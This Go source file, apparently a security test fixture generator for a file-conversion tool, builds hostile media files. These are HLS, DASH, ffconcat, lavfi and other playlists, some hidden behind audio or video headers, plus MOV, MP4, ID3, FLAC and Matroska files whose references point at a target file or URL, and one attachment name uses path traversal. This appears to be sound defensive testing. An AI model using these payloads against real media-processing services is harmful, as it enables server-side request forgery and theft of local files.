package hostile

import (
	"encoding/binary"
	"fmt"
	"strings"

	"github.com/filewright/filewright/fileops"
)

// hostileMedia returns playlists with the names of recordings, and recordings
// that refer to t for their content or a part of it.
func hostileMedia(t target) []*fileops.File {
	var out []*fileops.File
	add := func(name, content string) { out = append(out, fileops.Bytes(name, []byte(content))) }
	lists := map[string]string{
		"hls":    "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXT-X-KEY:METHOD=AES-128,URI=\"" + t.base + "/key\"\n#EXT-X-MAP:URI=\"" + t.file + "\"\n" + t.repeat("#EXTINF:9,\n@\n") + "#EXT-X-ENDLIST\n",
		"master": "#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID=\"a\",NAME=\"a\",URI=\"" + t.base + "/a.m3u8\"\n" + t.repeat("#EXT-X-STREAM-INF:BANDWIDTH=1\n@\n"),
		"concat": "ffconcat version 1.0\n" + t.repeat("file '@'\n"),
		"sdp":    "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:" + t.base + "\nm=audio " + t.base[strings.LastIndexByte(t.base, ':')+1:] + " RTP/AVP 0\n",
		"dash":   `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1">` + t.repeat(`<BaseURL>@</BaseURL>`) + `<SegmentList><Initialization sourceURL="` + t.file + `"/>` + t.repeat(`<SegmentURL media="@"/>`) + `</SegmentList></Representation></AdaptationSet></Period></MPD>`,
		"asx":    `<asx version="3.0">` + t.repeat(`<entry><ref href="@"/></entry>`) + `</asx>`,
		"pls":    "[playlist]\nNumberOfEntries=1\n" + t.repeat("File1=@\n"),
		"cpl":    `<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><SegmentList>` + t.repeat(`<Segment><Path>@</Path></Segment>`) + `</SegmentList></CompositionPlaylist>`,
		"smooth": `<?xml version="1.0"?><SmoothStreamingMedia MajorVersion="2"><StreamIndex Type="video" Url="` + t.base + `/{bitrate}"/></SmoothStreamingMedia>`,
		"rtsp":   "rtsptext\n" + t.base + "\n",
		"lavfi":  "movie=" + t.path + "\n",
	}
	for _, ext := range []string{"mp3", "wav", "ts", "avi", "mkv", "m4a"} {
		for name, list := range lists {
			add(name+"."+ext, list)
		}
	}
	// A playlist after data that looks like the start of a recording.
	for ext, head := range map[string]string{"mp3": "ID3\x04\x00\x00\x00\x00\x00\x00", "ts": "\x47\x1f\xff\x10" + strings.Repeat("\xff", 184), "mpeg": "\x00\x00\x01\xba", "mp4": box("ftyp", "isom\x00\x00\x00\x00"), "wav": "RIFF\x00\x00\x00\x00WAVE", "flac": "fLaC\x80\x00\x00\x00"} {
		if ext == "ts" {
			head = strings.Repeat(head, 5)
		}
		add("behind."+ext, head+"\n"+lists["hls"])
	}
	for i, s := range t.each() {
		list := "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n" + s + "\n#EXT-X-ENDLIST\n"
		add(fmt.Sprintf("subtitles-%d.avi", i), gab2(list))
		add(fmt.Sprintf("reference-%d.mov", i), external(s, t.path))
		add(fmt.Sprintf("reference-%d.mp4", i), external(s, t.path))
		add(fmt.Sprintf("cover-%d.mp3", i), id3(s))
		add(fmt.Sprintf("cover-%d.flac", i), "fLaC\x00\x00\x00\x22\x10\x00\x10\x00\x00\x00\x00\x00\x00\x00\x0a\xc4\x40\xf0\x00\x00\x00\x00"+zeros(16)+
			block(0x86, "\x00\x00\x00\x03"+long("-->")+long("")+zeros(16)+long(s))+"\xff\xf8\x69\x18\x00\x00")
		add(fmt.Sprintf("linked-%d.mkv", i), ebml("\x1a\x45\xdf\xa3", ebml("\x42\x82", "matroska")+ebml("\x42\x87", "\x04")+ebml("\x42\x85", "\x02"))+
			ebml("\x18\x53\x80\x67", ebml("\x15\x49\xa9\x66", ebml("\x2a\xd7\xb1", "\x0f\x42\x40")+ebml("\x73\x84", s)+ebml("\x3c\x83\xab", s)+ebml("\x3e\x83\xbb", s)+ebml("\x3c\xb9\x23", strings.Repeat("\x01", 16))+ebml("\x3e\xb9\x23", strings.Repeat("\x01", 16)))+
				ebml("\x16\x54\xae\x6b", ebml("\xae", ebml("\xd7", "\x01")+ebml("\x73\xc5", "\x01")+ebml("\x83", "\x02")+ebml("\x86", "A_PCM/INT/LIT")+ebml("\x3b\x40\x40", s)+ebml("\x26\xb2\x40", s)+ebml("\xe1", ebml("\x9f", "\x01")+ebml("\x62\x64", "\x10"))))+
				ebml("\x19\x41\xa4\x69", ebml("\x61\xa7", ebml("\x46\x6e", "../../../../.."+t.path)+ebml("\x46\x60", "font/ttf")+ebml("\x46\x5c", s)+ebml("\x46\xae", "\x01")))+
				ebml("\x1f\x43\xb6\x75", ebml("\xe7", "\x00")+ebml("\xa3", "\x81\x00\x00\x80"+zeros(400)))))
	}
	return out
}

// box returns a box of an ISO base media file.
func box(kind string, content ...string) string {
	s := strings.Join(content, "")
	return string(binary.BigEndian.AppendUint32(nil, uint32(8+len(s)))) + kind + s
}

// external returns a movie with one audio track whose samples are in another
// file.
func external(at, path string) string {
	u32 := func(n ...uint32) string {
		var b []byte
		for _, n := range n {
			b = binary.BigEndian.AppendUint32(b, n)
		}
		return string(b)
	}
	matrix := u32(0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
	// A classic Macintosh alias contains the path; its other fields are arbitrary.
	alias := zeros(4) + "\x00\x96\x00\x02\x00\x00" + pad(path, 28) + zeros(8) + pad(path, 64) + zeros(40) + "\x00\x02" + string([]byte{0, byte(len(path))}) + path + strings.Repeat("\x00", len(path)%2) + "\x00\x12" + string([]byte{0, byte(len(path))}) + path + "\xff\xff\x00\x00"
	return box("ftyp", "qt  \x00\x00\x02\x00qt  ") + box("moov",
		box("mvhd", u32(0, 0, 0, 8000, 8000, 0x10000), "\x01\x00", zeros(10), matrix, zeros(24), u32(2)),
		box("trak", box("tkhd", u32(7, 0, 0, 1, 0, 8000, 0, 0, 0), "\x01\x00\x00\x00", matrix, u32(0, 0)),
			box("mdia", box("mdhd", u32(0, 0, 0, 8000, 8000, 0)), box("hdlr", u32(0), "mhlrsoun", zeros(12), "\x00"),
				box("minf", box("smhd", u32(0, 0)), box("hdlr", u32(0), "dhlrurl ", zeros(12), "\x00"),
					box("dinf", box("dref", u32(0, 3), box("url ", u32(0), at+"\x00"), box("alis", u32(0), alias), box("urn ", u32(0), at+"\x00"+at+"\x00"))),
					box("stbl", box("stsd", u32(0, 1), box("sowt", zeros(6), "\x00\x01", zeros(8), "\x00\x01\x00\x10", zeros(4), u32(8000<<16))),
						box("stts", u32(0, 1, 8000, 1)), box("stsc", u32(0, 1, 1, 8000, 1)), box("stsz", u32(0, 2, 8000)), box("stco", u32(0, 1, 0)))))),
		box("rmra", box("rmda", box("rdrf", u32(0), "url ", u32(uint32(len(at)+1)), at+"\x00"))),
		box("udta", box("meta", u32(0), at)))
}

func pad(s string, n int) string { return (s + zeros(n))[:n] }

// riff returns a chunk of a RIFF file.
func riff(id string, content ...string) string {
	s := strings.Join(content, "")
	return id + string(binary.LittleEndian.AppendUint32(nil, uint32(len(s)))) + s + zeros(len(s)%2)
}

// gab2 returns an AVI with a raw picture and a playlist as subtitles.
func gab2(list string) string {
	u32 := func(n ...uint32) string {
		var b []byte
		for _, n := range n {
			b = binary.LittleEndian.AppendUint32(b, n)
		}
		return string(b)
	}
	header := func(kind, codec string) string {
		return riff("strh", kind+codec, u32(0, 0, 0, 1, 25, 0, 25, 768, 0, 0), zeros(8))
	}
	subtitles := "GAB2\x00\x02\x00\x02\x00\x00\x00x\x00\x04\x00" + string(binary.LittleEndian.AppendUint32(nil, uint32(len(list)))) + list
	return riff("RIFF", "AVI ",
		riff("LIST", "hdrl", riff("avih", u32(40000, 0, 0, 0x10, 1, 0, 2, 768, 16, 16), zeros(16)),
			riff("LIST", "strl", header("vids", "DIB "), riff("strf", u32(40, 16, 16, 24<<16|1, 0, 768, 0, 0, 0, 0))),
			riff("LIST", "strl", header("txts", "\x00\x00\x00\x00"), riff("strf", ""))),
		riff("LIST", "movi", riff("00db", zeros(768)), riff("01tx", subtitles)))
}

// id3 returns audio with a tag that refers to an external picture and other
// external data.
func id3(at string) string {
	frame := func(id, s string) string {
		return id + string([]byte{0, 0, byte(len(s) >> 7), byte(len(s) & 127)}) + "\x00\x00" + s
	}
	tag := frame("APIC", "\x00-->\x00\x03\x00"+at) + frame("WXXX", "\x00\x00"+at) + frame("LINK", "APIC"+at+"\x00") + frame("WOAS", at) + frame("GEOB", "\x00text/plain\x00"+at+"\x00\x00x")
	n := len(tag)
	sound := "\xff\xfb\x90\x00" + zeros(413)
	return "ID3\x04\x00\x00" + string([]byte{0, byte(n >> 14), byte(n >> 7 & 127), byte(n & 127)}) + tag + strings.Repeat(sound, 5)
}

// block returns a FLAC metadata block.
func block(kind byte, s string) string {
	return string([]byte{kind, byte(len(s) >> 16), byte(len(s) >> 8), byte(len(s))}) + s
}

// long returns s preceded by its length.
func long(s string) string { return string(binary.BigEndian.AppendUint32(nil, uint32(len(s)))) + s }

// ebml returns a Matroska element.
func ebml(id, content string) string {
	n := len(content)
	return id + string([]byte{0x10 | byte(n>>24), byte(n >> 16), byte(n >> 8), byte(n)}) + content
}
